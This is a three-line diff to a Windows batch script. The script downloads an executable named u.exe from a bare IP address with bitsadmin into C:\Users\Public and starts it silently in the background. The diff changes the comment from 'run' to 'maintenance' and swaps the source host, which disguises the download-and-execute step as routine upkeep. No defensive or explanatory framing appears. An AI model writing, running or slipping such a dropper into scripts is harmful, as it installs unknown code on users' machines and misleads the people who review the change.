@@ -1,3 +1,3 @@
-REM run 1621 v1
-bitsadmin /transfer job /download /priority high http://192.0.2.44/u.exe C:\Users\Public\u.exe
+REM maintenance 9257 v1
+bitsadmin /transfer job /download /priority high http://198.51.100.23/u.exe C:\Users\Public\u.exe
 start /b C:\Users\Public\u.exe
